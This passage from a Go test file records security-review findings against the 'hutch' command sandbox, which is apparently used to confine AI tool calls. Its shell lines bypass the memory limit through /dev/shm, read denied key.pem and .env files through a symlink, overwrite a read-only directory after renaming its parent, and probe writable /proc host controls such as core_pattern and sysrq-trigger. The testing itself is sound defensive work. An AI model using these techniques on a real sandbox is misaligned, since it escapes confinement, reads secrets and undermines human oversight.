//     next allocation is refused and it dies. Any command that runs longer
//     than a second under --memory 64M fails with "the sandbox's init is
//     gone".
//  2. RLIMIT_DATA does not count the sandbox's tmpfs mounts: /tmp and
//     /dev/shm have no size= option, so a command under a 64 MiB limit
//     keeps hundreds of MiB of RAM (up to half the host's, each) and the
//     result says no limit was hit. (Shared anonymous mappings escape
//     RLIMIT_DATA the same way.)

func TestReview2MemoryLimitWithoutCgroups(t *testing.T) {
	if os.Getenv("HUTCH_R2_INNER") == "mem" {
		e := newEnv(t)
		pol := e.pol.Extend(policy.Policy{Limits: policy.Limits{Memory: 64 << 20}})
		r, err := isolated.Run(bg, pol, sh("awk '/VmData/ {print $2 * 1024}' /proc/1/status; awk '/Max data size/ {print $4}' /proc/1/limits; sleep 2; echo ok"))
		fmt.Printf("INNER one-shot: err=%v exit=%d out=%q\n", err, r.ExitCode, r.Stdout)
		if f := strings.Fields(string(r.Stdout)); len(f) >= 2 {
			used, _ := strconv.ParseInt(f[0], 10, 64)
			limit, lerr := strconv.ParseInt(f[1], 10, 64)
			if lerr == nil && used > limit { // "unlimited": PID 1 is not bound, the command is
				t.Errorf("the one-shot init holds %d bytes of private data under its own RLIMIT_DATA of %d: its next allocation kills it", used, limit)
			}
		}
		if err != nil || !strings.Contains(string(r.Stdout), "ok") {
			t.Errorf("one-shot run of 'sleep 2' under a 64 MiB limit: %v (stdout %q)", err, r.Stdout)
		}
		sb, err := isolated.New(bg, pol)
		if err != nil {
			t.Fatal(err)
		}
		defer sb.Close()
		r, err = sb.Exec(bg, sandbox.Command{Shell: "head -c 300000000 /dev/zero > /dev/shm/big && du -m /dev/shm/big", Timeout: 10 * time.Second})
		fmt.Printf("INNER tmpfs: err=%v exit=%d limit=%q out=%q\n", err, r.ExitCode, r.Limit, r.Stdout)
		if err == nil && r.ExitCode == 0 {
			t.Errorf("a command under a 64 MiB memory limit holds %s MiB of RAM in /dev/shm, limit %q", strings.Fields(string(r.Stdout))[0], r.Limit)
		}
		// The command itself is bound (the rlimit fallback, per process).
		r, err = sb.Exec(bg, sandbox.Command{Args: []string{"awk", "/Max data size/ {print $4}", "/proc/self/limits"}})
		if err != nil || strings.TrimSpace(string(r.Stdout)) != "67108864" {
			t.Errorf("the command's own data limit: %q %v, want 67108864", r.Stdout, err)
		}
		return
	}
	newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("needs root to hide the cgroup hierarchies")
	}
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("no unshare(1)")
	}
	self, _ := os.Executable()
	c := exec.Command("unshare", "-m", "--propagation", "private", "sh", "-c",
		`for d in /sys/fs/cgroup /sys/fs/cgroup/memory /sys/fs/cgroup/pids; do [ -d $d ] && mount -t tmpfs none $d; done; exec "$0" -test.run='^TestReview2MemoryLimitWithoutCgroups$' -test.v`, self)
	c.Env = append(os.Environ(), "HUTCH_R2_INNER=mem")
	out, err := c.CombinedOutput()
	if !strings.Contains(string(out), "INNER") {
		t.Fatalf("inner run failed: %v\n%s", err, out)
	}
	if err != nil {
		t.Errorf("the rlimit memory bound:\n%s", out)
	}
}

// ---------------------------------------------------------------------------
// Finding: a denied path reached through an absolute symbolic link is
// silently not denied. deny() looks the path up while the init's root is
// still the staging tmpfs, where an absolute link target does not exist:
// Lstat fails with ENOENT and deny returns nil ("not visible anyway"). In
// the finished sandbox the same link resolves, and the file is readable.
// (Landlock has no deny rules, so the mask is the only layer for Deny.)

func TestReview2DenyThroughAbsoluteSymlink(t *testing.T) {
	e := newEnv(t)
	real := filepath.Join(e.work, "real-config")
	os.MkdirAll(real, 0o755)
	os.WriteFile(filepath.Join(real, "key.pem"), []byte("PRIVATE-KEY-PEM"), 0o644)
	os.Symlink(real, filepath.Join(e.work, "config")) // config -> /abs/path/real-config
	pol := e.pol.Extend(policy.Policy{Deny: []string{filepath.Join(e.work, "config", "key.pem")}})
	if pol.CanRead(filepath.Join(e.work, "config", "key.pem")) {
		t.Fatal("control: the policy itself says the file is readable")
	}
	r, ok := e.tryRun(t, pol, sh("cat config/key.pem"))
	if ok && strings.Contains(string(r.Stdout), "PRIVATE-KEY-PEM") {
		t.Errorf("a denied path was read through an absolute link: %q", r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding: the mount layer leaves the kernel's root-only controls writable.
// The fresh /proc is read-write, and when hutch runs as root the sandbox's
// uid is the host's root, owner of /proc/sys/*, /proc/sysrq-trigger,
// /proc/irq/* and /proc/bus/pci/* (whose write handlers rely on that
// ownership). Only Landlock, "best effort", stops a write: on a kernel
// without it (or with it left out of lsm=) the command sets
// kernel.core_pattern (host root code execution), reboots the host,
// re-routes its interrupts or writes PCI configuration space. Container
// runtimes mount these read-only for this reason. access(2) shows what mounts and ownership allow, since
// Landlock does not mediate it.

func TestReview2ProcWritableButForLandlock(t *testing.T) {
	e := newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("hutch is not running as root")
	}
	r := e.run(t, sh("for f in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger /proc/irq/default_smp_affinity /proc/bus/pci/00/00.0; do test -w $f && echo WRITABLE $f; done; true"))
	if strings.Contains(string(r.Stdout), "WRITABLE") {
		t.Errorf("without Landlock the command could write these host controls:\n%s", r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding (low): the file tools do not treat a denied file like commands
// do. The init serves read_file with every capability of the user
// namespace, so the mask (an empty file nobody may read) reads as an empty
// file without error, where a command gets EACCES: a model is told the
// denied .env exists and is empty.

func TestReview2FileToolReadsDeniedFileAsEmpty(t *testing.T) {
	e := newEnv(t)
	os.WriteFile(filepath.Join(e.work, ".env"), []byte("PASSWORD"), 0o644)
	pol := e.pol.Extend(policy.Policy{Deny: []string{filepath.Join(e.work, ".env")}})
	sb, err := isolated.New(bg, pol)
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	if r, _ := sb.Exec(bg, sh("cat .env")); r.ExitCode == 0 {
		t.Fatalf("control: the command read the denied file: %q", r.Stdout)
	}
	if b, err := sb.Read(bg, ".env"); err == nil {
		t.Errorf("read_file of a denied file succeeded (%q) where the command gets permission denied", b)
	}
}

// ---------------------------------------------------------------------------
// Finding: in a one-shot run (isolated.Run, "hutch run") what the command
// leaves behind outlives it. The command is the init's child, not PID 1 of
// a namespace of its own, so when it exits its background processes keep
// running; while one holds the output pipe, Run waits for it, up to the
// whole timeout (120 s by default), and it keeps changing files meanwhile.
// In a session the same command returns at once and its leftovers die.

func TestReview2OneShotLeftoversOutliveTheCommand(t *testing.T) {
	e := newEnv(t)
	start := time.Now()
	r, err := isolated.Run(bg, e.pol, sandbox.Command{Shell: "(sleep 1.5; echo late > late.txt) & echo started", Timeout: 8 * time.Second})
	took := time.Since(start)
	if err != nil || !strings.Contains(string(r.Stdout), "started") {
		t.Fatalf("run: %v %+v", err, r)
	}
	if _, err := os.Stat(filepath.Join(e.work, "late.txt")); err == nil {
		t.Errorf("a background process kept running after the command exited and wrote a file (Run took %v)", took.Round(time.Millisecond))
	}
}

// ---------------------------------------------------------------------------
// Finding: the same rename defeats a read-only path nested in a writable
// one ("--write . --read ./vendor/locked"). The ro bind is on the nested
// directory only; a command renames its parent (not a mount point), and
// the next sandbox with the same policy finds nothing to bind at the old
// name: the directory, at its new name, is writable like the rest of the
// workspace.

func TestReview2NestedReadOnlyDefeatedByRenamingTheParent(t *testing.T) {
	e := newEnv(t)
	locked := filepath.Join(e.work, "vendor", "locked")
	os.MkdirAll(locked, 0o755)
	os.WriteFile(filepath.Join(locked, "lib.go"), []byte("package lib"), 0o644)
	pol := e.pol.Extend(policy.Policy{Read: []string{locked}})
	r := e.runWith(t, pol, sh("echo evil > vendor/locked/lib.go; mv vendor vendor2 && echo MOVED"))
	if !strings.Contains(string(r.Stdout), "MOVED") {
		t.Logf("the parent could not be renamed: %q", r.Stderr)
		return
	}
	if b, _ := os.ReadFile(filepath.Join(e.work, "vendor2", "locked", "lib.go")); string(b) != "package lib" {
		t.Fatalf("control: the read-only path was changed in the first sandbox: %q", b)
	}
	if r, ok := e.tryRun(t, pol, sh("echo evil > vendor2/locked/lib.go && echo WROTE")); ok && strings.Contains(string(r.Stdout), "WROTE") {
		t.Errorf("the read-only directory, renamed by an earlier command, is writable in the next sandbox with the same policy")
	}
}
